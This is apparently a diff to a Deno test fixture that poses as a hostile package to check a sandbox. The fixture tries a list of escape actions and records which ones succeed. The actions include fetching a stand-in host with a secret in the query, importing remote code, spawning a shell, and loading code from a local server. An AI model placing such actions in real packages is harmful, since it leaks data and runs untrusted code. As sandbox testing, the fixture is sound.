@@ -13,6 +13,9 @@ const SHELL = Deno.build.os === "windows"
   ? "C:\\Windows\\System32\\cmd.exe"
   : "/bin/sh";
 
+// A server on this machine, which runs may connect to: what it offers must not be run.
+const LOCAL_MODULE = Deno.args.at(-1) ?? "";
+
 const ATTEMPTS: Readonly<Record<string, () => unknown>> = {
   "fetch another host": () => fetch("https://example.com/?secret=1"),
   "connect to another host": () =>
@@ -23,6 +26,17 @@ const ATTEMPTS: Readonly<Record<string, () => unknown>> = {
   "ask a name server": () => Deno.resolveDns("secret.example.com", "A"),
   "listen for others": () => Deno.listen({ hostname: "0.0.0.0", port: 0 }),
   "import code": () => import(["https:", "", "esm.sh", "x?secret=1"].join("/")),
+  "import code from this machine": () => import(LOCAL_MODULE),
+  "run code from this machine in a worker": () =>
+    new Promise((resolve, reject) => {
+      const worker = new Worker(LOCAL_MODULE, { type: "module" });
+      worker.onmessage = resolve;
+      worker.onerror = (event) => {
+        event.preventDefault();
+        reject(new Error(event.message));
+      };
+    }),
+  "connect to this machine": () => fetch(LOCAL_MODULE),
   "run a program": () => new Deno.Command(SHELL).outputSync(),
   "run a program by Node's module": () =>
     new Promise((resolve, reject) => {
@@ -60,7 +74,8 @@ for (const [name, attempt] of Object.entries(ATTEMPTS)) {
 Deno.stdout.writeSync(new TextEncoder().encode(JSON.stringify(ends)));
 Deno.exit(0);
 
-/** What the real package exports, so that the program can be linked. */
+/** What the real packages export, so that the program can be linked. */
 export function parseArgs(): never {
   throw new TypeError("The hostile package has come to its end");
 }
+export { parseArgs as parse };
